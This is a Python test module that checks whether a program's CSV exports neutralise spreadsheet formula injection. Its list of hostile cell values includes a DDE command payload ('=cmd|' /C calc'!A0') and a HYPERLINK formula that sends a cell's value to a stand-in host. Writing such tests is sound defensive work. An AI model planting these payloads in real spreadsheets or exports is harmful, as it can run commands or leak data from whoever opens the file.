"""CSV for a spreadsheet: hostile texts as creator ids and in rejected lines, printed by the program, parsed back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from datetime import date
from pathlib import Path

from world import World

from faults.campaign import TEST_DATA, Effort, Figure
from faults.hostile_files import MORE_TEXTS

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \u00a0=1", "\ufeff=1", "\u200b=1", "'=1",
    '"=1"', "“=1",
    "＝1", "＋1", "－1", "＠1", "﹢1", "﹣1", "−1", "⁺1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"x")',
    "a;=1", "a; -1", 'a";"=1', ";+1", "a\r\n=1", "a,=1", "'", "''=1", "x" * 40_000 + "=1", "😀" * 20_000 + "=1",
    "\x1b]0;x\x07",
    "-", "1", "01", "1e5", "TRUE", "2026-01-05", "NULL", "\u2028=1", "\x85=1", "\x00=1", "a\x00b",
]  # fmt: skip
STARTS = "=+-@＝＋－＠﹢﹣−⁺"


def attack_sheets(effort: Effort) -> Iterator[Figure]:
    """`top --csv` and `rejects --csv`."""
    texts = list(dict.fromkeys([*FORMULAS, *(text for text in MORE_TEXTS if text), *_naughty(effort)]))
    world = World(effort.scratch / "sheets")
    world.land("viewing_sessions", [_session(number, text) for number, text in enumerate(texts)])
    bad = [json.dumps({"sessionId": text, "creatorId": "c", "startedAt": text}, ensure_ascii=False) for text in texts]
    world.land_text("viewing_sessions", "".join(f"{line}\n" for line in bad), "=1+1;-2\n.ndjson")
    raw = [text.replace("\n", " ") for text in texts]
    world.land_text("creators", "".join(f"{line}\n" for line in raw), "-bad.ndjson")
    world.run(compare=False, night={"accept_rejects": True})
    home = world.settings.home
    from_corpora = "" if effort.corpora else f"; without the naughty strings, as {TEST_DATA} does not name a folder"
    for command in (["top", "--limit", "100000"], ["rejects"]):
        figure = Figure(f"cells of `{command[0]} --csv`")
        _compare(figure, _printed(home, *command, "--csv"), json.loads(_printed(home, *command, "--json")))
        figure.note = f"{len(texts)} hostile texts{from_corpora}"
        yield figure


def _naughty(effort: Effort) -> list[str]:
    if effort.corpora is None:
        return []
    found = json.loads((effort.corpora / "naughty_strings" / "blns.json").read_text())
    return [text for text in found if text]


def _session(number: int, creator: str) -> dict[str, object]:
    started = f"{date(2026, 1, 5)}T10:{number // 60 % 60:02}:{number % 60:02}Z"
    return {"sessionId": f"s{number}", "creatorId": creator, "viewerId": "v", "startedAt": started}


def _printed(home: Path, *command: str) -> bytes:
    environ = {name: value for name, value in os.environ.items() if not name.startswith("MOSTWATCHED_")}
    program = [sys.executable, "-m", "pipelines.cli", "--home", str(home), *command]
    return subprocess.run(program, capture_output=True, check=True, env=environ, timeout=300).stdout


def _compare(figure: Figure, printed: bytes, rows: list[dict[str, object]]) -> None:
    """Every cell is safe, and says what --json says."""
    text = printed.decode()
    lines = text.split("\r\n")
    figure.check(len(lines) == len(rows) + 2 and lines[-1] == "", f"{len(lines) - 2} lines for {len(rows)} rows")
    odd = {char for line in lines for char in line if unicodedata.category(char) in ("Cc", "Zl", "Zp")}
    figure.check(not odd, f"control characters are in it: {sorted(odd)!r}")
    header, *cells = csv.reader(io.StringIO(text, newline=""), strict=True)
    figure.check(header == list(rows[0]), f"the header is {header}")
    for found, row in zip(cells, rows, strict=True):
        for cell, value in zip(found, row.values(), strict=True):
            figure.check(_is_safe(cell), f"{cell[:200]!r} may be a formula")
            figure.check(_says(cell, value), f"{cell[:200]!r} does not say {str(value)[:200]!r}")


def _is_safe(cell: str) -> bool:
    """Whether neither the cell nor what a reader of semicolons would make of it begins a formula; and its length."""
    fits = len(cell.encode("utf-16-le")) // 2 <= 32_767
    return fits and not any(part.strip(' \u00a0\ufeff\u200b"“')[:1] in tuple(STARTS) for part in cell.split(";"))


def _says(cell: str, value: object) -> bool:
    if not isinstance(value, str):
        return cell == ("" if value is None else str(value))
    if len(value) > 15_000:
        return value[:100] in cell and cell.endswith("…")
    shown = "".join(_seen(char) for char in value)
    return re.sub("(^|;)'", r"\1", cell) in (shown, re.sub("(^|;)'", r"\1", shown))


def _seen(char: str) -> str:
    if unicodedata.category(char) not in ("Cc", "Zl", "Zp"):
        return char
    return f"\\x{ord(char):02x}" if ord(char) < 256 else f"\\u{ord(char):04x}"
